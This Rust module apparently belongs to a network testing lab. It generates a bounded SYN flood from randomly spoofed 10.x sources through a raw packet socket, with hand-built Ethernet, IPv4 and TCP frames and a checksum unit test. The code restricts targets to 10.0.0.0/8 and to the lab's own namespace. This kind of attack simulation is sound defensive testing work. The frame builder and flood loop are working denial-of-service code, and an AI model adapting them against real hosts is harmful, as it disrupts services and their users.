//! A SYN flood from random spoofed sources, as `hping3 --flood
//! --rand-source` sends one, bounded in frames and time and sent only from
//! one of the lab's own namespaces.
//!
//! A raw `AF_PACKET` socket, opened on a thread inside the role's namespace
//! (so the socket and every frame stay there), writes hand-built Ethernet
//! frames onto one of the role's interfaces: TCP SYNs to `dst:dport` from
//! random addresses of a 10.x prefix and random ports, IPv4 and TCP
//! checksums correct, paced to a rate. From the router's `rt-dir` they land
//! in the director's `front` RX queues as a NIC would deliver an attack.

use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use crate::{Lab, LabError};

/// Frames sent between two looks at the clock.
const BURST: u64 = 32;
/// Ethernet + IPv4 + TCP, padded to the 60-byte minimum frame.
const FRAME_LEN: usize = 60;

/// What to send.
#[derive(Debug, Clone)]
pub struct SynFlood {
    /// The lab role whose namespace sends (e.g. `router`).
    pub role: String,
    /// The interface in that namespace to send on (e.g. `rt-dir`).
    pub dev: String,
    /// Source MAC of the frames (the interface's).
    pub src_mac: [u8; 6],
    /// Destination MAC (the next hop's, e.g. the director's `front`).
    pub dst_mac: [u8; 6],
    /// Target address (the VIP); must be in 10.0.0.0/8.
    pub dst: Ipv4Addr,
    /// Target port.
    pub dport: u16,
    /// Spoofed sources: random addresses of `(network, prefix length)`,
    /// which must lie in 10.0.0.0/8.
    pub sources: (Ipv4Addr, u8),
    /// Frames per second.
    pub rate: u32,
    /// Most frames to send.
    pub max_frames: u64,
    /// Longest time to send for.
    pub duration: Duration,
    /// Seed of the addresses and ports (a run can be repeated).
    pub seed: u64,
}

/// What a flood did.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FloodReport {
    /// Frames the socket took.
    pub sent: u64,
    /// Frames the socket refused (e.g. `ENOBUFS`).
    pub send_errors: u64,
    /// From the first frame to the last.
    pub elapsed: Duration,
}

impl FloodReport {
    /// Frames per second actually sent.
    pub fn pps(&self) -> f64 {
        self.sent as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// A flood being sent; [`Flood::stop`] ends it early, [`Flood::wait`]
/// lets it run to its bound.
#[derive(Debug)]
pub struct Flood {
    stop: Arc<AtomicBool>,
    thread: JoinHandle<Result<FloodReport, String>>,
}

impl Flood {
    /// Stops sending now and reports.
    pub fn stop(self) -> Result<FloodReport, LabError> {
        self.stop.store(true, Ordering::Relaxed);
        self.wait()
    }

    /// Waits for the flood's bound (frames or time) and reports.
    pub fn wait(self) -> Result<FloodReport, LabError> {
        match self.thread.join() {
            Ok(Ok(r)) => Ok(r),
            Ok(Err(e)) => Err(LabError::InvalidSpec(format!("SYN flood: {e}"))),
            Err(_) => Err(LabError::InvalidSpec("SYN flood thread panicked".into())),
        }
    }
}

impl SynFlood {
    /// Starts sending from `lab`'s namespace of `self.role`.
    pub fn start(self, lab: &Lab) -> Result<Flood, LabError> {
        let in_lab = |a: Ipv4Addr| a.octets()[0] == 10;
        if !in_lab(self.dst) || !in_lab(self.sources.0) || self.sources.1 < 8 {
            return Err(LabError::InvalidSpec(format!(
                "SYN flood: target {} and sources {}/{} must lie in 10.0.0.0/8",
                self.dst, self.sources.0, self.sources.1
            )));
        }
        if self.sources.1 > 32 || self.rate == 0 {
            return Err(LabError::InvalidSpec(
                "SYN flood: a prefix length up to 32 and a rate of at least 1 frame/s".into(),
            ));
        }
        let ns = lab.checked_ns(&self.role)?;
        let stop = Arc::new(AtomicBool::new(false));
        let flag = Arc::clone(&stop);
        let thread = rvs_netns::spawn_in(&ns, move || self.run(&flag));
        Ok(Flood { stop, thread })
    }

    /// The sending loop, on a thread inside the namespace.
    fn run(self, stop: &AtomicBool) -> Result<FloodReport, String> {
        let sock = packet_socket(&self.dev)?;
        let mut rng = self.seed | 1;
        let mut frame = [0u8; FRAME_LEN];
        let mut report = FloodReport {
            sent: 0,
            send_errors: 0,
            elapsed: Duration::ZERO,
        };
        let host_bits = 32 - u32::from(self.sources.1);
        let net = u32::from(self.sources.0) & !mask_low(host_bits);
        let start = Instant::now();
        let mut attempts = 0u64;
        while attempts < self.max_frames
            && start.elapsed() < self.duration
            && !stop.load(Ordering::Relaxed)
        {
            // Pace: `attempts` frames are due `attempts / rate` s in.
            let due = Duration::from_secs_f64(attempts as f64 / f64::from(self.rate));
            if let Some(wait) = due.checked_sub(start.elapsed()) {
                std::thread::sleep(wait.min(Duration::from_millis(20)));
                continue;
            }
            for _ in 0..BURST.min(self.max_frames - attempts) {
                let r = xorshift(&mut rng);
                let src = Ipv4Addr::from(net | (r as u32 & mask_low(host_bits)));
                let sport = 1024 + ((r >> 32) as u16 % (65535 - 1024));
                let seq = (r >> 16) as u32;
                self.build(&mut frame, src, sport, seq);
                attempts += 1;
                // SAFETY: send(2) on a socket we own, from a buffer of
                // FRAME_LEN initialised bytes that outlives the call.
                let n =
                    unsafe { libc::send(sock.as_raw_fd(), frame.as_ptr().cast(), frame.len(), 0) };
                if n == frame.len() as isize {
                    report.sent += 1;
                } else {
                    report.send_errors += 1;
                }
            }
        }
        report.elapsed = start.elapsed();
        Ok(report)
    }

    /// Writes one SYN `src:sport → dst:dport` into `f`.
    fn build(&self, f: &mut [u8; FRAME_LEN], src: Ipv4Addr, sport: u16, seq: u32) {
        f.fill(0);
        f[0..6].copy_from_slice(&self.dst_mac);
        f[6..12].copy_from_slice(&self.src_mac);
        f[12..14].copy_from_slice(&0x0800u16.to_be_bytes());
        let ip = 14;
        f[ip] = 0x45;
        f[ip + 2..ip + 4].copy_from_slice(&40u16.to_be_bytes());
        f[ip + 4..ip + 6].copy_from_slice(&(seq as u16).to_be_bytes());
        f[ip + 8] = 64;
        f[ip + 9] = 6;
        f[ip + 12..ip + 16].copy_from_slice(&src.octets());
        f[ip + 16..ip + 20].copy_from_slice(&self.dst.octets());
        let ck = checksum(&f[ip..ip + 20], 0);
        f[ip + 10..ip + 12].copy_from_slice(&ck.to_be_bytes());
        let t = ip + 20;
        f[t..t + 2].copy_from_slice(&sport.to_be_bytes());
        f[t + 2..t + 4].copy_from_slice(&self.dport.to_be_bytes());
        f[t + 4..t + 8].copy_from_slice(&seq.to_be_bytes());
        f[t + 12] = 5 << 4;
        f[t + 13] = 0x02; // SYN
        f[t + 14..t + 16].copy_from_slice(&64240u16.to_be_bytes());
        // Pseudo-header: addresses, protocol, TCP length.
        let mut pseudo = [0u8; 12];
        pseudo[0..4].copy_from_slice(&src.octets());
        pseudo[4..8].copy_from_slice(&self.dst.octets());
        pseudo[9] = 6;
        pseudo[10..12].copy_from_slice(&20u16.to_be_bytes());
        let ck = checksum(&f[t..t + 20], sum(&pseudo));
        f[t + 16..t + 18].copy_from_slice(&ck.to_be_bytes());
    }
}

/// The low `bits` bits set.
fn mask_low(bits: u32) -> u32 {
    if bits >= 32 {
        u32::MAX
    } else {
        (1u32 << bits) - 1
    }
}

fn xorshift(x: &mut u64) -> u64 {
    *x ^= *x << 13;
    *x ^= *x >> 7;
    *x ^= *x << 17;
    *x
}

/// One's-complement sum of 16-bit words.
fn sum(b: &[u8]) -> u32 {
    b.chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
        .sum()
}

/// The Internet checksum of `b` with `initial` already summed.
fn checksum(b: &[u8], initial: u32) -> u16 {
    let mut s = initial + sum(b);
    while s > 0xffff {
        s = (s & 0xffff) + (s >> 16);
    }
    !(s as u16)
}

/// A raw `AF_PACKET` socket bound to `dev` of the calling thread's
/// namespace, for sending whole frames.
fn packet_socket(dev: &str) -> Result<OwnedFd, String> {
    let name = std::ffi::CString::new(dev).map_err(|_| format!("bad device name {dev:?}"))?;
    // SAFETY: if_nametoindex reads a NUL-terminated string we own.
    let ifindex = unsafe { libc::if_nametoindex(name.as_ptr()) };
    if ifindex == 0 {
        return Err(format!("no interface {dev} in this namespace"));
    }
    let proto = (libc::ETH_P_ALL as u16).to_be();
    // SAFETY: socket(2) with constant arguments; the fd is owned below.
    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, libc::c_int::from(proto)) };
    if fd < 0 {
        return Err(format!(
            "AF_PACKET socket: {}",
            std::io::Error::last_os_error()
        ));
    }
    // SAFETY: fd is a fresh descriptor nothing else owns.
    let sock = unsafe { OwnedFd::from_raw_fd(fd) };
    // SAFETY: sockaddr_ll is plain data; zeroed is a valid value.
    let mut addr: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    addr.sll_family = libc::AF_PACKET as u16;
    addr.sll_protocol = proto;
    addr.sll_ifindex = ifindex as i32;
    // SAFETY: bind(2) with a pointer to a sockaddr_ll of the size given.
    let rc = unsafe {
        libc::bind(
            sock.as_raw_fd(),
            (&addr as *const libc::sockaddr_ll).cast(),
            std::mem::size_of::<libc::sockaddr_ll>() as libc::socklen_t,
        )
    };
    if rc != 0 {
        return Err(format!(
            "binding the AF_PACKET socket to {dev}: {}",
            std::io::Error::last_os_error()
        ));
    }
    Ok(sock)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_syns_with_correct_checksums() {
        let f = SynFlood {
            role: "router".into(),
            dev: "rt-dir".into(),
            src_mac: [2, 0, 0, 0, 0, 1],
            dst_mac: [2, 0, 0, 0, 0, 2],
            dst: Ipv4Addr::new(10, 0, 100, 1),
            dport: 80,
            sources: (Ipv4Addr::new(10, 128, 0, 0), 9),
            rate: 1,
            max_frames: 1,
            duration: Duration::from_secs(1),
            seed: 1,
        };
        let mut frame = [0u8; FRAME_LEN];
        let src = Ipv4Addr::new(10, 200, 3, 4);
        f.build(&mut frame, src, 4321, 0xdead_beef);
        // A correct checksum sums to zero with it included.
        assert_eq!(checksum(&frame[14..34], 0), 0);
        let mut pseudo = [0u8; 12];
        pseudo[0..4].copy_from_slice(&src.octets());
        pseudo[4..8].copy_from_slice(&[10, 0, 100, 1]);
        pseudo[9] = 6;
        pseudo[11] = 20;
        assert_eq!(checksum(&frame[34..54], sum(&pseudo)), 0);
        assert_eq!(frame[34 + 13], 0x02, "SYN only");
        assert_eq!(&frame[34..36], &4321u16.to_be_bytes());
        assert_eq!(&frame[26..30], &src.octets());
        assert_eq!(mask_low(23), 0x7f_ffff);
        assert_eq!(mask_low(32), u32::MAX);
    }
}
